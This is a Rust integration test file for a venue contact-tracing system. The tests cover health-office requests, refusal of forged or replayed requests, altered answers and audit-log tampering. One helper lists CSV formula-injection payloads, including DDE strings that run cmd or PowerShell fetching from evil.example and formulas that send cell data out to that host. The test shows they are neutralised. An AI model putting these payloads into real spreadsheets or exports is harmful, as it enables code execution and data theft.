//! Health-office requests end to end: authority, office, venue, guest codes, check-ins
//! over several days, request, approval, answer, contact list — and every refusal.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::{
    at, contact, keys, no_progress, office, office_unlisted, read_csv, venue, Office, TestVenue,
};
use tresen_office::desk::DeskError;
use tresen_protocol::answer::{AnswerError, AnswerReader};
use tresen_protocol::certificate::CertError;
use tresen_protocol::checkin_record::Method;
use tresen_protocol::guest_code::GuestCode;
use tresen_protocol::request::RequestError;
use tresen_venue::{Error, ScanOutcome};

fn refused(e: Error) -> RequestError {
    match e {
        Error::Request(r) => r,
        other => panic!("expected a refused request, got {other:?}"),
    }
}

/// The busy venue, its office "ga-mitte", the moment the office asks (14 November 09:00)
/// and the venue's fingerprint.
fn busy_office() -> (TestVenue, Office, i64, String) {
    let mut v = venue(at(2026, 11, 9, 12, 0));
    busy_venue(&mut v);
    let o = office(&mut v, "ga-mitte");
    let fp = v.venue.fingerprint();
    (v, o, at(2026, 11, 14, 9, 0), fp)
}

/// Ten guests over three days in both areas; returns (name, area, table, in, out).
fn busy_venue(v: &mut TestVenue) -> Vec<(String, &'static str, Option<u16>, i64, i64)> {
    let (ter, bar) = (v.terrasse, v.bar);
    let mut visits = Vec::new();
    for day in 0..3u32 {
        for g in 0..10usize {
            let area = if g % 3 == 0 { bar } else { ter };
            let name = if area == bar { "Bar" } else { "Terrasse" };
            let table = (area == ter).then_some((g % 10 + 1) as u16);
            let start = at(2026, 11, 10 + day, 17, 0) + (g as i64) * 20 * 60;
            let end = start + 90 * 60;
            let code =
                GuestCode::create(&contact(day as usize * 100 + g), &v.authority.contact_key())
                    .unwrap()
                    .to_text();
            let o = v
                .venue
                .scan_guest(&code, area, table, Method::Fob, start)
                .unwrap();
            assert!(matches!(o, ScanOutcome::CheckedIn { .. }));
            v.venue
                .scan_guest(&code, area, None, Method::Fob, end)
                .unwrap();
            visits.push((
                format!("Gast Nummer {}", day as usize * 100 + g),
                name,
                table,
                start,
                end,
            ));
        }
    }
    visits
}

#[test]
fn a_request_is_answered_with_exactly_the_guests_who_overlapped() {
    let mut v = venue(at(2026, 11, 9, 12, 0));
    let visits = busy_venue(&mut v);
    let o = office(&mut v, "ga-mitte");
    // Window: 11 November 18:00-19:30 on the terrace.
    let (from, until) = (at(2026, 11, 11, 18, 0), at(2026, 11, 11, 19, 30));
    let now = at(2026, 11, 14, 9, 0);
    let fp = v.venue.fingerprint();
    let req = o
        .desk
        .make_request(
            &tresen_office::desk::RequestSpec {
                venue: &fp,
                areas: &["Terrasse".into()],
                from,
                until,
                case_reference: "AZ 2026-4711",
                reason: "Positiver Test am 13.11.",
                valid_secs: 7 * 86_400,
            },
            now,
        )
        .unwrap();
    let review = v.venue.review_request(req.as_bytes(), now).unwrap();
    let expected: Vec<_> = visits
        .iter()
        .filter(|(_, area, _, s, e)| *area == "Terrasse" && *s < until && *e > from)
        .collect();
    assert!(!expected.is_empty() && expected.len() < 10);
    assert_eq!(review.matching, expected.len() as u64);
    assert_eq!(review.case_reference, "AZ 2026-4711");
    assert_eq!(review.office_name, "Gesundheitsamt Mitte");

    let answer = v.dir.path().join("answer.tresen");
    let calls = std::sync::Mutex::new(Vec::new());
    let progress = |d: u64, t: u64| calls.lock().unwrap().push((d, t));
    let report = v
        .venue
        .approve_request(req.as_bytes(), &keys(&v), &answer, &progress, now)
        .unwrap();
    assert_eq!(report.records, expected.len() as u64);
    assert_eq!(
        calls.lock().unwrap().last(),
        Some(&(report.records, report.records))
    );

    let (csv, json) = (o.dir.join("contacts.csv"), o.dir.join("contacts.json"));
    let r = o
        .desk
        .open_answer(req.as_bytes(), &answer, &csv, &json)
        .unwrap();
    assert_eq!(r.records, expected.len() as u64);
    assert_eq!(r.flagged, 0);
    let rows = read_csv(&csv);
    let mut got: Vec<(String, String, String, String, String)> = rows
        .iter()
        .map(|r| {
            (
                r[0].clone(),
                r[7].clone(),
                r[8].clone(),
                r[9].clone(),
                r[10].clone(),
            )
        })
        .collect();
    got.sort();
    let iso = |t: i64| {
        chrono::DateTime::from_timestamp(t, 0)
            .unwrap()
            .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
    };
    let mut want: Vec<_> = expected
        .iter()
        .map(|(n, a, t, s, e)| {
            (
                n.clone(),
                a.to_string(),
                t.map(|t| t.to_string()).unwrap_or_default(),
                iso(*s),
                iso(*e),
            )
        })
        .collect();
    want.sort();
    assert_eq!(got, want);
    // The JSON says the same.
    let j: serde_json::Value = serde_json::from_slice(&std::fs::read(&json).unwrap()).unwrap();
    assert_eq!(j.as_array().unwrap().len(), expected.len());
    // Approved once: a replay is refused, and the audit log holds seen + approved.
    let e = v
        .venue
        .review_request(req.as_bytes(), now + 60)
        .unwrap_err();
    assert!(matches!(refused(e), RequestError::Replayed { .. }));
    assert_eq!(v.venue.verify_audit().unwrap(), 3);
    let events: Vec<String> = v
        .venue
        .audit_entries()
        .unwrap()
        .into_iter()
        .map(|e| e.event)
        .collect();
    assert_eq!(events, ["seen", "approved", "refused"]);
}

#[test]
fn requests_are_refused_each_with_its_own_reason() {
    let (mut v, o, now, fp) = busy_office();
    let (from, until) = (at(2026, 11, 11, 18, 0), at(2026, 11, 11, 19, 30));
    let mk = |venue: &str, from: i64, until: i64, valid: i64, issued: i64| {
        o.desk
            .make_request(
                &tresen_office::desk::RequestSpec {
                    venue,
                    areas: &[],
                    from,
                    until,
                    case_reference: "AZ 1",
                    reason: "Grund",
                    valid_secs: valid,
                },
                issued,
            )
            .unwrap()
    };
    // An office certified by another authority (another root).
    let other = venue(at(2026, 11, 9, 12, 0));
    let stranger = office_unlisted(&other, "ga-fremd");
    let foreign = stranger
        .desk
        .make_request(
            &tresen_office::desk::RequestSpec {
                venue: &fp,
                areas: &[],
                from,
                until,
                case_reference: "AZ 9",
                reason: "Grund",
                valid_secs: 86_400,
            },
            now,
        )
        .unwrap();
    let e = refused(v.venue.review_request(foreign.as_bytes(), now).unwrap_err());
    assert_eq!(e, RequestError::Certificate(CertError::NotCertified));
    assert!(e
        .to_string()
        .contains("not certified by the health authority"));
    // A forged or altered request: the body changed, the signature kept.
    let good = mk(&fp, from, until, 86_400, now);
    let mut env: serde_json::Value = serde_json::from_str(&good).unwrap();
    let other_req = mk(&fp, from - 86_400, until, 86_400, now);
    let other_env: serde_json::Value = serde_json::from_str(&other_req).unwrap();
    env["body"] = other_env["body"].clone();
    let e = refused(
        v.venue
            .review_request(env.to_string().as_bytes(), now)
            .unwrap_err(),
    );
    assert_eq!(e, RequestError::BadSignature);
    // Another venue.
    let e = refused(
        v.venue
            .review_request(
                mk("AAAA-BBBB-CCCC-DDDD-EEEE", from, until, 86_400, now).as_bytes(),
                now,
            )
            .unwrap_err(),
    );
    assert!(matches!(e, RequestError::OtherVenue(_)), "{e}");
    // Expired.
    let e = refused(
        v.venue
            .review_request(mk(&fp, from, until, 3600, now - 7200).as_bytes(), now)
            .unwrap_err(),
    );
    assert!(matches!(e, RequestError::Expired(_)), "{e}");
    // Window outside the retention period, or in the future.
    let e = refused(
        v.venue
            .review_request(
                mk(&fp, now - 30 * 86_400, until, 86_400, now).as_bytes(),
                now,
            )
            .unwrap_err(),
    );
    assert!(matches!(e, RequestError::WindowBeforeRetention(_)), "{e}");
    let e = refused(
        v.venue
            .review_request(mk(&fp, from, now + 86_400, 86_400, now).as_bytes(), now)
            .unwrap_err(),
    );
    assert!(matches!(e, RequestError::WindowInFuture(_)), "{e}");
    // Unknown area, garbage, too large.
    let unknown = o
        .desk
        .make_request(
            &tresen_office::desk::RequestSpec {
                venue: &fp,
                areas: &["Keller".into()],
                from,
                until,
                case_reference: "AZ",
                reason: "G",
                valid_secs: 86_400,
            },
            now,
        )
        .unwrap();
    assert_eq!(
        refused(v.venue.review_request(unknown.as_bytes(), now).unwrap_err()),
        RequestError::UnknownArea("Keller".into())
    );
    assert!(matches!(
        refused(v.venue.review_request(b"{not json", now).unwrap_err()),
        RequestError::Malformed(_)
    ));
    assert_eq!(
        refused(
            v.venue
                .review_request(&vec![b' '; 70_000], now)
                .unwrap_err()
        ),
        RequestError::TooLarge
    );
    // Declined requests cannot be approved afterwards (replay).
    v.venue
        .decline_request(good.as_bytes(), "Kein Bezug zu unserem Betrieb", now)
        .unwrap();
    let e = v
        .venue
        .approve_request(
            good.as_bytes(),
            &keys(&v),
            &v.dir.path().join("a"),
            &no_progress,
            now,
        )
        .unwrap_err();
    assert!(matches!(refused(e), RequestError::Replayed { .. }));
    assert!(!v.dir.path().join("a").exists());
    // Every distinct message: the operator can tell the cases apart.
    assert!(v.venue.verify_audit().unwrap() >= 10);
}

#[test]
fn answers_altered_in_transit_or_opened_by_another_office_are_refused() {
    let (mut v, o, now, fp) = busy_office();
    let o2 = office(&mut v, "ga-nord");
    let req = o
        .desk
        .make_request(
            &tresen_office::desk::RequestSpec {
                venue: &fp,
                areas: &[],
                from: at(2026, 11, 10, 0, 0),
                until: at(2026, 11, 12, 23, 0),
                case_reference: "AZ 5",
                reason: "Grund",
                valid_secs: 86_400,
            },
            now,
        )
        .unwrap();
    let answer = v.dir.path().join("answer.tresen");
    let report = v
        .venue
        .approve_request(req.as_bytes(), &keys(&v), &answer, &no_progress, now)
        .unwrap();
    assert_eq!(report.records, 30);
    let original = std::fs::read(&answer).unwrap();
    for pos in [
        10,
        100,
        original.len() / 2,
        original.len() - 70,
        original.len() - 1,
    ] {
        let mut bad = original.clone();
        bad[pos] ^= 0x01;
        let path = o.dir.join(format!("altered-{pos}"));
        std::fs::write(&path, &bad).unwrap();
        let e = o
            .desk
            .open_answer(
                req.as_bytes(),
                &path,
                &o.dir.join(format!("{pos}.csv")),
                &o.dir.join(format!("{pos}.json")),
            )
            .err()
            .unwrap();
        assert!(
            matches!(
                e,
                DeskError::Answer(AnswerError::BadSignature)
                    | DeskError::Answer(AnswerError::NotAnAnswer)
                    | DeskError::Answer(AnswerError::Corrupt(_))
                    | DeskError::Answer(AnswerError::Truncated)
            ),
            "{pos}: {e}"
        );
        assert!(
            !o.dir.join(format!("{pos}.csv")).exists(),
            "nothing written from an altered answer"
        );
    }
    let cut = o.dir.join("cut");
    std::fs::write(&cut, &original[..original.len() - 100]).unwrap();
    assert!(o
        .desk
        .open_answer(
            req.as_bytes(),
            &cut,
            &o.dir.join("c.csv"),
            &o.dir.join("c.json")
        )
        .is_err());
    // Another office holds neither the request nor the key the answer is sealed to.
    let e = o2
        .desk
        .open_answer(
            req.as_bytes(),
            &answer,
            &o2.dir.join("x.csv"),
            &o2.dir.join("x.json"),
        )
        .err()
        .unwrap();
    assert!(matches!(e, DeskError::NotOurRequest), "{e}");
    let id = tresen_protocol::request::parse_id(
        &tresen_protocol::request::parse_own(req.as_bytes(), &o.desk.keys.signing.public_key())
            .unwrap()
            .request_id,
    )
    .unwrap();
    let venue =
        tresen_protocol::request::parse_own(req.as_bytes(), &o.desk.keys.signing.public_key())
            .unwrap()
            .venue;
    let e = AnswerReader::open(
        std::fs::File::open(&answer).unwrap(),
        &o2.desk.keys,
        &id,
        &venue,
    )
    .and_then(|mut r| r.next_entry().map(|_| ()))
    .unwrap_err();
    assert!(matches!(e, AnswerError::NotForThisOffice), "{e}");
}

/// Formula-injection payloads (OWASP's CSV injection examples and variants).
fn payloads() -> Vec<String> {
    let base = [
        "=cmd|' /C calc'!A0",
        "=cmd|' /C notepad'!'A1'",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klick\")",
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
        "=IMAGE(\"http://evil.example/x.png\")",
        "=WEBSERVICE(\"http://evil.example/\")",
        "=1+1",
        "+1+1",
        "-1+1",
        "@1+1",
        "=SUM(A1:A9)",
        "=cmd|'/c powershell IEX(wget evil.example)'!A0",
        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
        "@cmd|'/c calc'!_xlbgnm.A1",
        "=\"=\"&\"1+1\"",
        "  =1+1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
        "=INFO(\"system\")",
    ];
    base.iter().map(|s| s.to_string()).collect()
}

#[test]
fn formula_injection_in_guest_data_ends_up_inert_and_invalid_data_is_flagged() {
    let t0 = at(2026, 11, 10, 12, 0);
    let mut v = venue(t0);
    let ter = v.terrasse;
    let ck = v.authority.contact_key();
    let mut n = 0;
    // Valid contact data carrying each payload in the name, the street or the city
    // (cut to the field's limit): 25 payloads x 3 fields = 75 guests.
    let fit = |p: &str, max: usize| -> String {
        let mut out = String::new();
        for ch in p.chars() {
            if out.len() + ch.len_utf8() > max {
                break;
            }
            out.push(ch);
        }
        out
    };
    for (i, p) in payloads().iter().enumerate() {
        for field in 0..3 {
            let mut c = contact(i * 3 + field);
            match field {
                0 => c.name = fit(p, 64),
                1 => c.street = fit(p, 64),
                _ => c.city = fit(p, 48),
            }
            let code = GuestCode::create(&c, &ck).unwrap().to_text();
            v.venue
                .scan_guest(&code, ter, None, Method::Fob, t0 + n as i64 * 10)
                .unwrap();
            n += 1;
        }
    }
    // Invalid data a hostile code-maker sealed without validation: control characters.
    for (i, bad) in [
        "\t=1+1",
        "\r=cmd|' /C calc'!A0",
        "Mallory\u{1b}[2J",
        "=1\n+2",
    ]
    .iter()
    .enumerate()
    {
        let mut pt = vec![1u8];
        for f in [*bad, "Weg 1", "10115", "Berlin", "+4930123456", ""] {
            pt.push(f.len() as u8);
            pt.extend_from_slice(f.as_bytes());
        }
        pt.resize(tresen_protocol::contact::PLAINTEXT_LEN, 0);
        let mut aad = b"TRG1".to_vec();
        aad.extend_from_slice(&ck.key_id);
        let sealed = tresen_protocol::crypto::seal(
            &ck.public_key,
            tresen_protocol::guest_code::HPKE_INFO,
            &aad,
            &pt,
        )
        .unwrap();
        let code = GuestCode {
            version: 1,
            key_id: ck.key_id,
            code_id: tresen_protocol::crypto::random_bytes(),
            sealed,
        }
        .to_text();
        v.venue
            .scan_guest(&code, ter, None, Method::Fob, t0 + 1000 + i as i64 * 10)
            .unwrap();
        n += 1;
    }
    let o = office(&mut v, "ga-mitte");
    let now = at(2026, 11, 11, 9, 0);
    let req = o
        .desk
        .make_request(
            &tresen_office::desk::RequestSpec {
                venue: &v.venue.fingerprint(),
                areas: &[],
                from: t0 - 3600,
                until: now - 60,
                case_reference: "AZ 6",
                reason: "Grund",
                valid_secs: 86_400,
            },
            now,
        )
        .unwrap();
    let answer = v.dir.path().join("answer.tresen");
    v.venue
        .approve_request(req.as_bytes(), &keys(&v), &answer, &no_progress, now)
        .unwrap();
    let (csv, json) = (o.dir.join("c.csv"), o.dir.join("c.json"));
    let r = o
        .desk
        .open_answer(req.as_bytes(), &answer, &csv, &json)
        .unwrap();
    assert_eq!(r.records, n, "no row dropped");
    assert_eq!(r.flagged, 4, "exactly the invalid rows are flagged");
    let rows = read_csv(&csv);
    assert_eq!(rows.len(), n as usize);
    let mut checked = 0;
    for row in &rows {
        for cell in &row[0..7] {
            let first = cell.trim_start_matches(' ').chars().next();
            let risky = matches!(
                first,
                Some('=' | '+' | '-' | '@' | '\t' | '\r' | '＝' | '＋' | '－' | '＠')
            ) || cell.starts_with(['\t', '\r']);
            assert!(!risky, "a cell can still be taken as a formula: {cell:?}");
            checked += 1;
        }
        if row[12] == "no" {
            assert!(!row[13].is_empty(), "a flagged row says why");
            assert!(!row[0].chars().any(|c| c.is_control()), "{:?}", row[0]);
        }
    }
    assert!(checked >= 50 * 3);
    // The payload text itself survives (behind the apostrophe), for the office to see.
    assert!(rows.iter().any(|r| r[0] == "'=cmd|' /C calc'!A0"));
    // Raw CSV is RFC 4180: every field quoted, CRLF line ends.
    let raw = std::fs::read_to_string(&csv).unwrap();
    assert!(raw.starts_with("\"name\",\"street\""));
    assert!(raw.contains("\r\n"));
}

#[test]
fn the_audit_log_detects_removed_or_altered_entries() {
    let (mut v, o, now, fp) = busy_office();
    for i in 0..3 {
        let r = o
            .desk
            .make_request(
                &tresen_office::desk::RequestSpec {
                    venue: &fp,
                    areas: &[],
                    from: at(2026, 11, 10, 0, 0),
                    until: at(2026, 11, 11, 0, 0),
                    case_reference: &format!("AZ {i}"),
                    reason: "Grund",
                    valid_secs: 86_400,
                },
                now,
            )
            .unwrap();
        v.venue.review_request(r.as_bytes(), now).unwrap();
    }
    assert_eq!(v.venue.verify_audit().unwrap(), 3);
    let conn = rusqlite::Connection::open(v.data_dir().join(tresen_venue::store::sqlite::DB_FILE))
        .unwrap();
    // The database refuses changes to the log...
    assert!(conn
        .execute("UPDATE audit_log SET detail = 'x' WHERE seq = 2", [])
        .is_err());
    assert!(conn
        .execute("DELETE FROM audit_log WHERE seq = 2", [])
        .is_err());
    // ...and someone who bypasses that is found out.
    conn.execute_batch("DROP TRIGGER audit_log_no_update; DROP TRIGGER audit_log_no_delete;")
        .unwrap();
    conn.execute(
        "UPDATE audit_log SET detail = 'case AZ 99' WHERE seq = 2",
        [],
    )
    .unwrap();
    let e = v.venue.verify_audit().unwrap_err();
    assert!(e.to_string().contains("entry 2"), "{e}");
    assert!(e.to_string().contains("altered"), "{e}");
    // Removal of a middle entry, and of the last one.
    let t0 = at(2026, 11, 9, 12, 0);
    let mut w = venue(t0);
    let o2 = office(&mut w, "ga-mitte");
    let fp2 = w.venue.fingerprint();
    for i in 0..3 {
        let r = o2
            .desk
            .make_request(
                &tresen_office::desk::RequestSpec {
                    venue: &fp2,
                    areas: &[],
                    from: t0 - 3600,
                    until: t0,
                    case_reference: &format!("AZ {i}"),
                    reason: "G",
                    valid_secs: 86_400,
                },
                t0 + 60,
            )
            .unwrap();
        w.venue.review_request(r.as_bytes(), t0 + 60).unwrap();
    }
    let conn = rusqlite::Connection::open(w.data_dir().join(tresen_venue::store::sqlite::DB_FILE))
        .unwrap();
    conn.execute_batch("DROP TRIGGER audit_log_no_delete;")
        .unwrap();
    conn.execute("DELETE FROM audit_log WHERE seq = 3", [])
        .unwrap();
    assert!(w
        .venue
        .verify_audit()
        .unwrap_err()
        .to_string()
        .contains("removed"));
    conn.execute("DELETE FROM audit_log WHERE seq = 2", [])
        .unwrap();
    assert!(w
        .venue
        .verify_audit()
        .unwrap_err()
        .to_string()
        .contains("removed"));
}
